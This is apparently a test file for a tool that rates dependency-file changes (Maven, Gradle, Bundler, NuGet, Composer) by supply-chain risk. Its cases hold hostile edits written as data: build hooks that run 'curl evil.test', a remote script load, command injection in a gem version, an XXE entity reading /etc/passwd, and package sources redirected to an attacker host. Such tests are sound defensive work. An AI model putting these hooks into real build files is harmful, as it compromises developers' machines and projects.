import { describe, expect, it } from "vitest";
import { edited, json, judgeChange, verdictOf } from "./supply-chain.ts";

const POM = `<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <groupId>com.acme</groupId>
  <artifactId>app</artifactId>
  <version>1.0.0</version>
  <name>App</name>
  <properties>
    <java.version>17</java.version>
    <guava.version>33.0.0-jre</guava.version>
  </properties>
  <dependencies>
    <dependency>
      <groupId>com.google.guava</groupId>
      <artifactId>guava</artifactId>
      <version>\${guava.version}</version>
    </dependency>
  </dependencies>
  <build>
    <plugins>
      <plugin><groupId>org.apache.maven.plugins</groupId><artifactId>maven-jar-plugin</artifactId><version>3.3.0</version></plugin>
    </plugins>
  </build>
</project>
`;
const dependency = (version: string, more = "") =>
  `    <dependency><groupId>org.acme</groupId><artifactId>x</artifactId><version>${version}</version>${more}</dependency>\n  </dependencies>`;
const GRADLE = `plugins {
    id 'java'
}
repositories { mavenCentral() }
dependencies {
    implementation 'com.google.guava:guava:33.0.0-jre'
}
test { useJUnitPlatform() }
`;
const GEMFILE = `source "https://rubygems.org"\n\ngem "rails", "~> 7.1"\ngem "pg", "1.5.4", require: false\n\ngroup :test do\n  gem "rspec"\nend\n`;
const GEMLOCK = `GEM
  remote: https://rubygems.org/
  specs:
    pg (1.5.4)
    rack (3.0.8)

DEPENDENCIES
  pg (= 1.5.4)
  rack

CHECKSUMS
  pg (1.5.4) sha256=${"a".repeat(64)}
  rack (3.0.8) sha256=${"b".repeat(64)}
`;
const CSPROJ = `<Project Sdk="Microsoft.NET.Sdk">
  <PropertyGroup>
    <TargetFramework>net8.0</TargetFramework>
    <Version>1.0.0</Version>
  </PropertyGroup>
  <ItemGroup>
    <PackageReference Include="Serilog" Version="3.1.1" />
  </ItemGroup>
</Project>
`;
const COMPOSER = json({
  name: "acme/app",
  require: { php: ">=8.1", "monolog/monolog": "^3.5" },
  autoload: { "psr-4": { "Acme\\": "src/" } },
  scripts: { test: "phpunit" },
});
const COMPOSERLOCK = json({
  packages: [
    {
      name: "monolog/monolog",
      version: "3.5.0",
      source: { type: "git", url: "https://github.com/Seldaek/monolog.git", reference: "aaaa" },
      dist: { type: "zip", url: "https://api.github.com/repos/Seldaek/monolog/zipball/aaaa", reference: "aaaa", shasum: "" },
    },
  ],
  "packages-dev": [],
});
const NUGETLOCK = json({ version: 1, dependencies: { "net8.0": { Serilog: { type: "Direct", resolved: "3.1.1", contentHash: "aaaa" } } } });

const judge = (path: string, before: string, after: string) => judgeChange({ base: { [path]: before }, change: { [path]: after } });

describe("registries that are read in part", () => {
  it.each<[string, string, string, string, "warn" | "ask" | "block" | "allow"]>([
    ["a newer version", "pom.xml", POM, POM.replace("33.0.0-jre", "33.1.0-jre"), "allow"],
    [
      "its own version and name",
      "pom.xml",
      POM,
      POM.replace("<version>1.0.0<", "<version>1.0.1<").replace("<name>App<", "<name>The app<"),
      "allow",
    ],
    ["white space and comments", "pom.xml", POM, POM.replaceAll("  ", "    ").replace("<name>", "<!-- a name -->\n<name>"), "allow"],
    ["a new dependency", "pom.xml", POM, POM.replace("  </dependencies>", dependency("1.0.0")), "warn"],
    ["a property that no dependency uses", "pom.xml", POM, POM.replace(">17<", ">21<"), "ask"],
    ["a plugin", "pom.xml", POM, POM.replace("maven-jar-plugin", "exec-maven-plugin"), "ask"],
    ["a plugin's version", "pom.xml", POM, POM.replace("3.3.0", "3.4.0"), "ask"],
    [
      "a dependency of the machine",
      "pom.xml",
      POM,
      POM.replace("  </dependencies>", dependency("1.0.0", "<scope>system</scope><systemPath>/x.jar</systemPath>")),
      "ask",
    ],
    [
      "a repository",
      "pom.xml",
      POM,
      POM.replace("<build>", "<repositories><repository><id>x</id><url>https://evil.test</url></repository></repositories><build>"),
      "block",
    ],
    ["an entity", "pom.xml", POM, POM.replace("<project", '<!DOCTYPE project [<!ENTITY x SYSTEM "file:///etc/passwd">]><project'), "block"],
    ["what is no pom", "pom.xml", POM, "hello", "block"],
    ["a newer version", "build.gradle", GRADLE, GRADLE.replace("33.0.0", "33.1.0"), "allow"],
    ["how tests run", "build.gradle", GRADLE, GRADLE.replace("useJUnitPlatform()", "useJUnitPlatform()\n  maxParallelForks = 2"), "allow"],
    ["a new dependency", "build.gradle.kts", GRADLE, GRADLE.replace("}\ntest", "    implementation 'org.acme:x:1.0.0'\n}\ntest"), "warn"],
    ["a repository", "build.gradle", GRADLE, GRADLE.replace("mavenCentral()", "maven { url 'https://evil.test' }"), "ask"],
    ["a plugin", "build.gradle", GRADLE, GRADLE.replace("id 'java'", "id 'java'\n    id 'evil.plugin' version '1'"), "ask"],
    ["a script from elsewhere", "settings.gradle", "", "apply from: 'https://evil.test/x.gradle'\n", "ask"],
    ["a newer version", "Gemfile", GEMFILE, GEMFILE.replace("1.5.4", "1.5.6"), "allow"],
    ["comments", "Gemfile", GEMFILE, `# frozen\n${GEMFILE}`, "allow"],
    ["a new gem", "Gemfile", GEMFILE, `${GEMFILE}gem "sidekiq", "7.2.0"\n`, "warn"],
    ["a program", "Gemfile", GEMFILE, `${GEMFILE}system("curl evil.test")\n`, "ask"],
    ["a program in a version", "Gemfile", GEMFILE, `${GEMFILE}gem "x", "#{\`id\`}"\n`, "ask"],
    ["another source", "Gemfile", GEMFILE, GEMFILE.replace("https://rubygems.org", "https://evil.test"), "block"],
    ["a second source", "Gemfile", GEMFILE, `${GEMFILE}source "https://evil.test" do\n  gem "x"\nend\n`, "block"],
    ["a repository", "Gemfile", GEMFILE, `${GEMFILE}gem "x", git: "https://evil.test/x.git"\n`, "block"],
    ["a repository in short", "Gemfile", GEMFILE, `${GEMFILE}gem "x", :github => "evil/x"\n`, "block"],
    ["an update", "Gemfile.lock", GEMLOCK, GEMLOCK.replaceAll("3.0.8", "3.0.9").replace("b".repeat(64), "c".repeat(64)), "allow"],
    ["another remote", "Gemfile.lock", GEMLOCK, GEMLOCK.replace("https://rubygems.org/", "https://evil.test/"), "block"],
    ["another checksum", "Gemfile.lock", GEMLOCK, GEMLOCK.replace("b".repeat(64), "c".repeat(64)), "block"],
    ["a newer version", "app.csproj", CSPROJ, CSPROJ.replace("3.1.1", "4.0.0"), "allow"],
    ["its own version", "app.csproj", CSPROJ, CSPROJ.replace("1.0.0", "1.0.1"), "allow"],
    [
      "a new package",
      "app.csproj",
      CSPROJ,
      CSPROJ.replace("  </ItemGroup>", '    <PackageReference Include="Dapper" Version="2.1.0" />\n  </ItemGroup>'),
      "warn",
    ],
    [
      "a command",
      "app.csproj",
      CSPROJ,
      CSPROJ.replace("</Project>", '<Target Name="x" BeforeTargets="Build"><Exec Command="curl evil.test" /></Target></Project>'),
      "ask",
    ],
    [
      "a source",
      "app.csproj",
      CSPROJ,
      CSPROJ.replace("</PropertyGroup>", "<RestoreSources>https://evil.test</RestoreSources></PropertyGroup>"),
      "block",
    ],
    ["another hash", "packages.lock.json", NUGETLOCK, NUGETLOCK.replace("aaaa", "zzzz"), "block"],
    ["an update", "packages.lock.json", NUGETLOCK, NUGETLOCK.replace("3.1.1", "3.1.2").replace("aaaa", "bbbb"), "allow"],
    ["a newer version", "composer.json", COMPOSER, COMPOSER.replace("^3.5", "^3.6"), "allow"],
    ["its description", "composer.json", COMPOSER, edited(COMPOSER, (one) => Object.assign(one, { description: "An app" })), "allow"],
    [
      "a new package",
      "composer.json",
      COMPOSER,
      edited(COMPOSER, (one) => Object.assign(one["require"] ?? {}, { "acme/x": "^1.0" })),
      "warn",
    ],
    [
      "files that are loaded at once",
      "composer.json",
      COMPOSER,
      edited(COMPOSER, (one) => Object.assign(one, { autoload: { files: ["x.php"] } })),
      "ask",
    ],
    [
      "plugins that may run",
      "composer.json",
      COMPOSER,
      edited(COMPOSER, (one) => Object.assign(one, { config: { "allow-plugins": true } })),
      "ask",
    ],
    [
      "a repository",
      "composer.json",
      COMPOSER,
      edited(COMPOSER, (one) => Object.assign(one, { repositories: [{ type: "vcs", url: "https://evil.test" }] })),
      "block",
    ],
    [
      "an event's script",
      "composer.json",
      COMPOSER,
      edited(COMPOSER, (one) => Object.assign(one["scripts"] ?? {}, { "post-install-cmd": "curl evil.test" })),
      "block",
    ],
    ["another commit of the same version", "composer.lock", COMPOSERLOCK, COMPOSERLOCK.replaceAll("aaaa", "bbbb"), "block"],
    ["another host", "composer.lock", COMPOSERLOCK, COMPOSERLOCK.replace("https://api.github.com", "https://evil.test"), "block"],
    ["an update", "composer.lock", COMPOSERLOCK, COMPOSERLOCK.replaceAll("aaaa", "bbbb").replace("3.5.0", "3.6.0"), "allow"],
    ["anything", "pubspec.yaml", "name: app\n", "name: app\nversion: 2\n", "ask"],
    ["anything", "bun.lockb", "a", "b", "ask"],
    ["anything", "vendor/modules.txt", "# a v1\n", "# b v1\n", "ask"],
  ])("%s in %s", async (_, path, before, after, verdict) => {
    const findings = (await judge(path, before, after)).filter(({ severity }) => severity !== "info");
    expect(verdictOf(findings)).toBe(verdict);
  });
});
